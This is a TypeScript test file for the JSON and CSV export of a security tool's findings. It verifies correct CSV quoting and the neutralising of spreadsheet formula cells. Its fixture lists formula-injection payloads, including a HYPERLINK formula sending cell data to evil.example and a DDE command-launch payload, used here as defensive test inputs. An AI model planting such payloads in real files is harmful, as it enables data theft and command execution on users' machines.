/**
 * JSON and CSV exports: what a client gets when they open the file in a tool or a spreadsheet.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CSV_COLUMNS, csvField, toCsv, toJson } from '../../main/core/report/export.ts';
import type { Finding } from '../../shared/model/finding.ts';
import { HOSTILE, finding, sampleChecks, sampleFindings } from '../support/report-fixtures.ts';

/** A strict RFC 4180 parser: quoted fields, doubled quotes, CRLF record ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (ch === '"') {
        quoted = false;
        i++;
        assert.ok(i === text.length || text[i] === ',' || text[i] === '\r', `text after a closing quote at ${i}`);
        continue;
      }
      field += ch;
      i++;
      continue;
    }
    if (ch === '"') {
      assert.equal(field, '', `quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r') {
      assert.equal(text[i + 1], '\n', 'records end with CRLF');
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      assert.ok(ch !== '\n', `bare LF outside quotes at ${i}`);
      field += ch;
    }
    i++;
  }
  assert.equal(quoted, false, 'unterminated quoted field');
  if (field !== '' || row.length) rows.push([...row, field]);
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tstarts with tab', '\rstarts with CR', "=cmd|' /C calc'!A0"];

function hostileFindings(): Finding[] {
  const meta = sampleChecks()[0]!;
  const names = [...Object.values(HOSTILE), ...FORMULAS, 'comma, "quote" and\r\nnewline', 'plain'];
  return [
    ...sampleFindings(),
    ...names.map((name, i) => finding(meta, { status: 'FAIL', name, message: `${name}\n${name}` }, 100 + i)),
  ];
}

/** What a spreadsheet user sees in the cell: the value, prefixed by ' when it would start a formula. */
const expectedCell = (value: string): string => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

test('JSON export parses back to the same findings', () => {
  const findings = hostileFindings();
  const json = toJson(findings);
  assert.deepEqual(JSON.parse(json), findings);
  assert.ok(json.startsWith('[\n  {'), 'pretty-printed array');
  assert.deepEqual(JSON.parse(toJson([])), []);
});

test('CSV export has the documented header and one row per finding', () => {
  const findings = hostileFindings();
  const rows = parseCsv(toCsv(findings));
  assert.deepEqual(rows[0], [
    'checkId', 'title', 'area', 'service', 'severity', 'status', 'message',
    'resourceId', 'resourceArn', 'resourceName', 'region', 'accountId', 'reasonKind', 'reasonCode',
  ]);
  assert.equal(rows.length, findings.length + 1);
  for (const row of rows) assert.equal(row.length, CSV_COLUMNS.length);
});

test('CSV round-trips every value, including commas, quotes, newlines and hostile names', () => {
  const findings = hostileFindings();
  const rows = parseCsv(toCsv(findings)).slice(1);
  findings.forEach((f, i) => {
    const row = rows[i]!;
    const cell = (column: string): string => row[CSV_COLUMNS.indexOf(column as (typeof CSV_COLUMNS)[number])]!;
    assert.equal(cell('resourceName'), expectedCell(f.resourceName));
    assert.equal(cell('message'), expectedCell(f.message));
    assert.equal(cell('resourceArn'), f.resourceArn);
    assert.equal(cell('checkId'), f.checkId);
    assert.equal(cell('status'), f.status);
    assert.equal(cell('reasonKind'), f.reason?.kind ?? '');
    assert.equal(cell('reasonCode'), f.reason?.code ?? '');
  });
  const long = rows.find((r) => r[CSV_COLUMNS.indexOf('resourceName')] === HOSTILE.long);
  assert.ok(long, 'the 5,000-character name is exported whole');
  const notAssessed = rows.find((r) => r[CSV_COLUMNS.indexOf('status')] === 'NOT_ASSESSED');
  assert.equal(notAssessed?.[CSV_COLUMNS.indexOf('reasonKind')], 'permission-denied');
  assert.equal(notAssessed?.[CSV_COLUMNS.indexOf('reasonCode')], 'AccessDenied');
});

test('cells that a spreadsheet would run as formulas are neutralised', () => {
  const rows = parseCsv(toCsv(hostileFindings())).slice(1);
  const cells = rows.flat();
  for (const formula of FORMULAS) {
    assert.ok(cells.includes(`'${formula}`), `not neutralised: ${JSON.stringify(formula)}`);
  }
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `live formula cell: ${JSON.stringify(cell.slice(0, 40))}`);
  assert.equal(csvField('=1+1'), "'=1+1");
  assert.equal(csvField('-'), "'-");
  assert.equal(csvField('a=b'), 'a=b');
  assert.equal(csvField('=a,b'), `"'=a,b"`);
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField(''), '');
});

test('an empty export is just the header', () => {
  assert.equal(toCsv([]), `${CSV_COLUMNS.join(',')}\r\n`);
});
